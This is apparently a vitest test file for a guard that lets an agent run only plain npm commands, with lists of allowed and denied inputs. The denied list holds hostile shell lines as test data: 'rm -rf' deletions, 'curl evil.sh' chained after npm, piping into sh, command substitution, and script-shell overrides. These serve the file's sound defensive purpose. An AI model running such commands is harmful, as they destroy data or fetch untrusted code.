import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { checkNpmOnly, denialReason } from "../../src/guard/bash-guard.js";

describe("npm-only Bash guard", () => {
  it.each([
    "npm --version",
    "npm -v",
    "npm install",
    "npm i",
    "npm ci",
    "npm test",
    "npm run build",
    "npm run test -- --watch=false",
    "npm install --save-dev vitest@4.1.12",
    "npm install @types/node",
    "npm ls --depth=0",
    "npm outdated",
    "npm audit --json",
    "npm view zod version",
    "npm run lint -- src/index.ts",
    "npm pack --dry-run",
    "  npm   test  ",
    "npm run 'build:prod'",
    'npm run "build:prod"',
    "npm install lodash@^4.17.21",
    "npm --prefix ./packages/api test",
    "npm run migrate -- --name add_orders_index",
  ])("allows %j", (command) => {
    expect(checkNpmOnly(command)).toEqual({ allow: true });
  });

  it.each([
    ["rm -rf build", /runs `rm`/],
    ["ls", /runs `ls`/],
    ["npx vitest", /runs `npx`/],
    ["node -e 1", /runs `node`/],
    ["/usr/bin/npm test", /runs `\/usr\/bin\/npm`/],
    ["NPM test", /runs `NPM`/],
    ["'npm' test", /quoted/],
    ["n'p'm test", /quoted/],
    ['"npm" test', /quoted/],
    ["npm test && rm -rf build", /chaining/],
    ["npm test; rm -rf build", /separator/],
    ["npm test || curl evil.sh", /\|\| chain|pipe/],
    ["npm test | sh", /pipe/],
    ["npm test & rm -rf build", /background/],
    ["npm test > out.txt", /redirection/],
    ["npm install < list.txt", /redirection/],
    ["npm test 2>&1", /redirection/],
    ["(npm test)", /subshell/],
    ["npm run $(echo build)", /substitution/],
    ["npm run `echo build`", /backticks/],
    ["npm run $SCRIPT", /variable/],
    ['npm run "$SCRIPT"', /inside double quotes/],
    ['npm run "`id`"', /inside double quotes/],
    ["FOO=1 npm test", /environment assignment/],
    ["npm_config_script_shell=/bin/sh npm test", /environment assignment/],
    ["npm test\nrm -rf build", /newline/],
    ["npm test\r\nrm -rf build", /newline/],
    ["npm install *", /glob/],
    ["npm install pkg?", /glob/],
    ["npm install {a,b}", /brace/],
    ["npm install ~/pkg", /tilde/],
    ["npm run build\\;rm", /backslash/],
    ["npm test # comment", /comment/],
    ["! npm test", /history|negation/],
    ["npm run 'unterminated", /unterminated single quote/],
    ['npm run "unterminated', /unterminated double quote/],
    ["npm exec -- rm -rf build", /npm exec/],
    ["npm exec -c 'rm -rf build'", /npm exec/],
    ["npm x cowsay", /npm x/],
    ["npm explore lodash -- rm -rf .", /npm explore/],
    ["npm --yes exec rimraf build", /npm exec/],
    ["npm run build --script-shell=/bin/sh", /--script-shell/],
    ["npm config set script-shell /bin/sh", /script-shell/],
    ["", /empty/],
    ["   ", /empty/],
    ["npm;", /separator/],
    ["npm test	&& echo", /chaining/],
    [`npm install ${"a ".repeat(10_001)}`, /longer than 20000 characters/],
  ])("denies %j", (command, why) => {
    const verdict = checkNpmOnly(command);
    expect(verdict.allow).toBe(false);
    if (!verdict.allow) expect(verdict.why).toMatch(why);
  });

  it("explains the rule and what to do instead", () => {
    const reason = denialReason({ why: "it runs `rm`, not npm" });
    expect(reason).toContain("only npm commands");
    expect(reason).toContain("it runs `rm`, not npm");
    expect(reason).toMatch(/show the command to the user/);
  });
});

describe("npm-only Bash guard properties", () => {
  /** The command with quoted stretches blanked out: what the shell would interpret. */
  function unquoted(command: string): string {
    let out = "";
    let quote: string | undefined;
    for (const ch of command) {
      if (quote) {
        if (ch === quote) quote = undefined;
        continue;
      }
      if (ch === "'" || ch === '"') quote = ch;
      else out += ch;
    }
    return out;
  }

  /** The text inside double quotes, as the shell pairs quotes (a `"` inside single quotes is literal). */
  function doubleQuoted(command: string): string {
    let out = "";
    let quote: string | undefined;
    for (const ch of command) {
      if (quote) {
        if (ch === quote) quote = undefined;
        else if (quote === '"') out += ch;
        continue;
      }
      if (ch === "'" || ch === '"') quote = ch;
    }
    return out;
  }

  const alphabet = fc.constantFrom(..."npm rx-./=@:'\";&|<>()$`\n\t*?[]{}~#!\\a1".split(""));

  it("anything it allows is one npm command with no shell syntax outside quotes and no expansion inside them", () => {
    fc.assert(
      fc.property(fc.array(alphabet, { maxLength: 30 }).map((chars) => chars.join("")), fc.boolean(), (tail, prefixed) => {
        const command = prefixed ? `npm ${tail}` : tail;
        if (!checkNpmOnly(command).allow) return;
        expect(command.trimStart().startsWith("npm")).toBe(true);
        expect(command.trimStart().slice(3)).toMatch(/^(\s|$)/);
        expect(unquoted(command)).not.toMatch(/[;&|<>()$`\n\r*?[\]{}~#!\\]/);
        expect(doubleQuoted(command)).not.toMatch(/[$`\\!]/);
      }),
      // The example once failed an oracle that ignored single quotes: '"!"' is a literal, safely allowed.
      { numRuns: 2000, examples: [[`'"!"'`, true]] },
    );
  });
});
